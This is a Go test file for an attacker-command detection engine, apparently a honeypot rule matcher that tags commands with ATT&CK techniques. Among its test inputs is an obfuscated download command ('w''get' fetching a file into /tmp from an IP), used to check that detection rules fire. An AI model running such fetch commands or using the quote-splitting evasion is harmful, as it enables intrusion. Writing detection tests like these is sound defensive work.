package engine

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"ttpctl/internal/event"
)

var testNow = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

// compileRule compiles one rule whose match block is match, in flow style or
// indented by two, and fails the test when it does not compile.
func compileRule(t testing.TB, appliesTo, match string) *Ruleset {
	t.Helper()
	text := "rule_id: R0001\nrule_version: 1\nname: probe\ndescription: a probe\napplies_to: [" + appliesTo + "]\nmatch:\n" + match +
		"\nemits:\n  - {tactic: TA0007, technique_id: T1082, confidence: 0.7}\n"
	rs, diags := Compile([]Source{{Name: "R0001.yaml", Data: []byte(text)}}, Config{Catalogue: catalogue(), Programs: programs()})
	for i := range diags {
		if diags[i].Severity == Error {
			t.Fatalf("rule does not compile: %v\n%s", diags[i].Error(), text)
		}
	}
	return rs
}

// commandEvent returns a command event.
func commandEvent(text string) *event.Event {
	ev := &event.Event{SourceID: "s1", AttackerUUID: "a1"}
	ev.SetKind("command")
	ev.SetField("command_text", event.StringValue(text))
	return ev
}

func TestMatchOperators(t *testing.T) {
	tests := []struct {
		match, text, matched string // matched "" = does not fire
	}{
		{`  pattern: 'b+'`, "abbbc", "bbb"},
		{`  pattern: '^b'`, "abc", ""},
		{`  contains: et`, "/etc", "et"},
		{`  contains: [xx, tc, et]`, "/etc", "et"},
		{`  contains: ET`, "/etc", ""},
		{"  contains: ET\n  ignore_case: true", "/etc", "et"},
		{"  contains: Kelvin\n  ignore_case: true", "0 \u212aelvin", "\u212aelvin"},
		{`  equals: id`, "id", "id"},
		{`  equals: id`, "id -u", ""},
		{"  equals: ID\n  ignore_case: true", "id", "id"},
		{`  in_set: [w, who]`, "who", "who"},
		{`  in_set: [w, who]`, "whoami", ""},
		{"  in_set: [W, WHO]\n  ignore_case: true", "who", "who"},
		{`  in_set: [a, b, c, d, e, f, g, h, i]`, "i", "i"},
		{`  starts_with: un`, "uname", "un"},
		{`  starts_with: na`, "uname", ""},
		{`  ends_with: me`, "uname", "me"},
		{`  ends_with: na`, "uname", ""},
		{"  starts_with: un\n  ends_with: me", "uname", "un"},
		{"  starts_with: un\n  ends_with: na", "uname", ""},
		{"  all_of:\n    - {contains: a}\n    - {contains: b}", "ab", "a"},
		{"  all_of:\n    - {contains: a}\n    - {contains: b}", "aa", ""},
		{"  any_of:\n    - {contains: x}\n    - {contains: b}", "ab", "b"},
		{"  any_of:\n    - all_of: [{contains: a}, {contains: x}]\n    - {contains: b}", "ab", "b"},
		{"  contains: a\n  none_of:\n    - {contains: b}", "ac", "a"},
		{"  contains: a\n  none_of:\n    - {contains: b}", "ab", ""},
		{"  none_of:\n    - {field: pwd, contains: b}\n  contains: a", "ab", "a"},
		{"  pattern: a\n  except: b", "ac", "a"},
		{"  pattern: a\n  except: b", "ab", ""},
		{"  pattern: a\n  except: [b, c]", "ac", ""},
		{"  pattern: a\n  except: [b, c]", "ad", "a"},
		{"  field: simple_command\n  starts_with: wget\n  except: localhost", "wget localhost; wget h", "wget"},
		{"  field: simple_command\n  starts_with: wget\n  except: localhost", "wget localhost; curl h", ""},
		{"  field: command_name\n  equals: wget", "cd /tmp && /usr/bin/w''get http://192.0.2.1/x", "wget"},
		{"  field: command_name\n  equals: wget", "echo wget", ""},
	}
	for _, tt := range tests {
		rs := compileRule(t, "command", tt.match)
		tags := NewSnapshot(rs, nil, testNow).Evaluate(nil, commandEvent(tt.text), testNow, NewScratch())
		if fired := len(tags) == 1; fired != (tt.matched != "") {
			t.Errorf("%q on %q: fired %v, want %v", tt.match, tt.text, fired, !fired)
			continue
		}
		if want := fmt.Sprintf(`"matched":"%s"`, tt.matched); tt.matched != "" && !strings.Contains(string(tags[0].Evidence), want) {
			t.Errorf("%q on %q: evidence %s, want %s in it", tt.match, tt.text, tags[0].Evidence, want)
		}
	}
}

func TestOperatorsOfABlockHoldOnOneValue(t *testing.T) {
	rs := compileRule(t, "http_request", "  field: headers.*\n  starts_with: a\n  ends_with: z")
	for _, tt := range []struct {
		values []string
		want   bool
	}{
		{[]string{"a-z"}, true},
		{[]string{"a-b", "y-z"}, false},
		{[]string{"b", "az"}, true},
	} {
		ev := &event.Event{SourceID: "s", AttackerUUID: "a"}
		ev.SetKind("http_request")
		ev.SetField("headers", event.Value{Kind: event.Object, Keys: []string{"X"}, List: []event.Value{event.StringsValue(tt.values)}})
		got := len(NewSnapshot(rs, nil, testNow).Evaluate(nil, ev, testNow, NewScratch())) == 1
		if got != tt.want {
			t.Errorf("values %q: fired %v, want %v", tt.values, got, tt.want)
		}
	}
}

func TestTextOperatorsIgnoreNumbersAndBooleans(t *testing.T) {
	rs := compileRule(t, "command", "  field: uid\n  pattern: '[0-9]'")
	for _, tt := range []struct {
		v    event.Value
		want bool
	}{{event.StringValue("0"), true}, {event.NumberValue(0), false}, {event.BoolValue(true), false}} {
		ev := commandEvent("x")
		ev.SetField("uid", tt.v)
		if got := len(NewSnapshot(rs, nil, testNow).Evaluate(nil, ev, testNow, NewScratch())) == 1; got != tt.want {
			t.Errorf("uid %+v: fired %v, want %v", tt.v, got, tt.want)
		}
	}
}
